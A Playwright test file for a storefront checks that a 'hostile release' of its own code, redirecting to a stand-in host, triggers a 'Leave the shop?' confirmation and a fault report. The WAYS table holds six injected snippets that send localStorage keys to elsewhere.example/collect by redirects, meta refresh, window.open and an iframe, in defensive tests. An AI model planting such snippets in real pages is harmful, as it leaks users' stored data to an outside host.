import type { Page } from '@playwright/test';
import { goBack } from './broken-release';
import { pinHostile } from './hostile-release';
import { expect, test } from './journey';

const ELSEWHERE = 'https://elsewhere.example/collect?';
const dialogOf = (page: Page) => page.getByRole('dialog', { name: 'Leave the shop?' });

/** Answers for the other origin, which is not there. */
const answerElsewhere = (page: Page) =>
  page.context().route(`${ELSEWHERE}**`, (route) => route.fulfill({ contentType: 'text/plain', body: 'elsewhere' }));

const carried = `"${ELSEWHERE}" + Object.keys(localStorage).join()`;
const link = `const link = document.createElement('a'); link.href = ${carried};`;
const WAYS = {
  'location.href': `location.href = ${carried}`,
  'location.replace': `location.replace(${carried})`,
  'a refresh in the head': `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh';
    meta.content = '0;url=' + ${carried}; document.head.append(meta)`,
  'a link that nobody pressed': `${link} link.click()`,
  'a new window': `open(${carried})`,
  'an empty frame': `const frame = document.createElement('iframe'); document.body.append(frame);
    frame.contentWindow.open(${carried}, '_top')`,
};

test.describe('a hostile release of the storefront', () => {
  test.afterEach(({ shop }) => goBack(shop));

  for (const [way, code] of Object.entries(WAYS)) {
    test(`that leads elsewhere by ${way} has to ask`, async ({ page, shop }) => {
      await answerElsewhere(page);
      await pinHostile(shop.dataDir, `setTimeout(() => { ${code} }, 500);`);
      await page.goto('/');
      await expect(dialogOf(page)).toContainText(ELSEWHERE);
      // The question closes by keyboard, and the page is as it was.
      await page.keyboard.press('Escape');
      await expect(dialogOf(page)).toHaveCount(0);
      await page.getByRole('link', { name: 'Shop', exact: true }).first().click();
      await expect(page.getByRole('button', { name: /Add to Cart/ }).first()).toBeVisible();
      expect(
        page
          .context()
          .pages()
          .map((one) => new URL(one.url()).origin),
      ).toEqual([shop.origin]);
    });
  }

  test('that keeps leading elsewhere asks once, and is charged', async ({ page, shop }) => {
    const reports: string[] = [];
    page.on('request', (request) => {
      if (request.url().endsWith('/page-reports')) reports.push(request.postData() ?? '');
    });
    await answerElsewhere(page);
    const release = await pinHostile(shop.dataDir, `setInterval(() => { location.href = ${carried} }, 500);`);
    await page.goto('/');
    await dialogOf(page).getByRole('button', { name: 'Stay here' }).press('Enter');
    await expect.poll(() => reports.join()).toContain(`"release":"${release}","stage":"mounted","faults":{"error":`);
    await expect(dialogOf(page)).toHaveCount(0);
    expect(page.url()).toBe(`${shop.origin}/`);
  });

  test('leads elsewhere once the person says so', async ({ page, shop }) => {
    await answerElsewhere(page);
    await pinHostile(shop.dataDir, `setTimeout(() => { location.href = ${carried} }, 500);`);
    await page.goto('/');
    await dialogOf(page).getByRole('link', { name: 'Go there' }).press('Enter');
    await expect(page.getByText('elsewhere')).toBeVisible();
  });
});

test('a link that the person presses is followed without a question', async ({ page }) => {
  await answerElsewhere(page);
  // A page that the browser draws: a rendered one would still have to be hydrated, without a link of the test in it.
  await page.goto('/login');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.evaluate((address) => {
    const link = document.createElement('a');
    link.href = address;
    link.textContent = 'Our supplier';
    document.querySelector('main')?.prepend(link);
  }, ELSEWHERE);
  await page.getByRole('link', { name: 'Our supplier' }).click();
  await expect(page.getByText('elsewhere')).toBeVisible();
});
